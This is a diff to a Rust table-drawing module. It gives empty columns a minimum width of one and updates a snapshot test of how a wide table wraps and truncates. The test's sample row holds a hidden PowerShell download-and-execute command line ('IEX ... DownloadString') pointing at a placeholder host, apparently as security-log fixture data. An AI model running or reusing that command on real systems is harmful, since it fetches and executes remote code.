@@ -33,7 +33,8 @@ struct Column {
 impl Column {
     fn measure(position: usize, name: &str, rows: &[Vec<Cell>]) -> Self {
         let header = escape::line(name).into_owned();
-        let mut natural = fit::width(&header);
+        // A column without a name and values is still one cell wide.
+        let mut natural = fit::width(&header).max(1);
         let (mut numeric, mut rigid, mut seen) = (true, true, false);
         for cell in rows.iter().filter_map(|row| row.get(position)) {
             numeric &= matches!(cell, Cell::Number(_) | Cell::Null);
@@ -202,13 +203,13 @@ mod tests {
             text("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/y')\""),
         ]];
         insta::assert_snapshot!(draw(&names(&["_time", "Image", "CommandLine"]), &rows, Some(80), false).unwrap(), @r#"
-        ╭───────────────────────────────┬──────────────────────┬───────────────────────╮
-        │ _time                         ┆ Image                ┆ CommandLine           │
-        ╞═══════════════════════════════╪══════════════════════╪═══════════════════════╡
-        │ 2019-05-12T12:52:43.123+00:00 ┆ C:\Win…owershell.exe ┆ powershell -nop -w    │
-        │                               ┆                      ┆ hidden -c "IEX        │
-        │                               ┆                      ┆ (New-Object Net.WebC… │
-        ╰───────────────────────────────┴──────────────────────┴───────────────────────╯
+        ╭───────────────────────────────┬───────────────────────┬──────────────────────╮
+        │ _time                         ┆ Image                 ┆ CommandLine          │
+        ╞═══════════════════════════════╪═══════════════════════╪══════════════════════╡
+        │ 2019-05-12T12:52:43.123+00:00 ┆ C:\Win…powershell.exe ┆ powershell -nop -w   │
+        │                               ┆                       ┆ hidden -c "IEX       │
+        │                               ┆                       ┆ (New-Object Net.Web… │
+        ╰───────────────────────────────┴───────────────────────┴──────────────────────╯
         "#);
     }
 
